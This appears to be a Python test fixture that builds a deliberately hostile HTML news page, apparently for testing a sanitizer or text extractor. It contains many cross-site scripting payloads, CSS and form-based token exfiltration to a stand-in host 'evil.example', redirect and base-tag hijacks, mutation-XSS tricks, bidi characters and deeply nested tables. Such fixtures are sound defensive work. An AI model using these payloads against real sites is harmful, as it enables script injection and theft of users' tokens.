"""A saved page that tries everything a page can try on whoever looks at it."""

from __future__ import annotations

_LEAD = (
    "The mayor said on Monday that 62 boats had left Orlevo. The ministry said 83 boats had left the harbour. "
    "Officials in Orlevo said the port would close on Tuesday."
)

_TRICKS = f"""
<script>alert(1)</script><script src="https://evil.example/x.js"></script>
<img src=x onerror="alert(1)"><body onload="alert(1)"><p onmouseover="alert(1)">{_LEAD}</p>
<a href="javascript:alert(1)">The mayor told the agency that six boats were lost.</a>
<a href="data:text/html,<script>alert(1)</script>">more</a> <a href="vbscript:alert(1)">and more</a>
<svg onload="alert(1)"><script>alert(1)</script><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>
<style>@import url(https://evil.example/a.css); body {{ background: url("https://evil.example/leak?q=1") }}
input[name=token][value^=a] {{ background: url(https://evil.example/a) }}</style>
<link rel="stylesheet" href="https://evil.example/b.css"><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal" method="post"><input name="token"><button>Accept</button></form>
<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></mtext></math>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<p>The mayor said &lt;script&gt;alert(1)&lt;/script&gt; and &lt;img src=x onerror=alert(1)&gt;
were “words &lt;b&gt; of hers”.</p>
<p>A spokesman for &lt;svg onload=alert(1)&gt; Front said {{{{7*7}}}} ships sank near
&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt; harbour.</p>
<p>\u202eThe mayor said\u202c nothing. \u0007 The ministry said so, too.</p>
"""

_HEAD = """<!doctype html><html><head><meta charset="utf-8">
<title>62 boats &lt;script&gt;alert(1)&lt;/script&gt; left Orlevo</title>
<meta property="og:site_name" content="Courier &lt;img src=x onerror=alert(1)&gt;">
<meta name="author" content="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">
<link rel="canonical" href="javascript:alert(1)//https://courier.example/boats">
<meta property="article:published_time" content="2031-05-06T10:00:00&lt;script&gt;alert(1)&lt;/script&gt;">
</head><body><article><h1>62 boats &lt;script&gt;alert(1)&lt;/script&gt; left Orlevo</h1>"""


def hostile_page(nested_bytes: int = 0, deep: int = 50) -> bytes:
    """The page, with so many bytes of tables behind its text, each of which holds others, so many deep."""
    nest = "<table><tr><td>" * deep + "</table>" * deep
    return f"{_HEAD}{_TRICKS}</article>{nest * (nested_bytes // len(nest))}".encode()
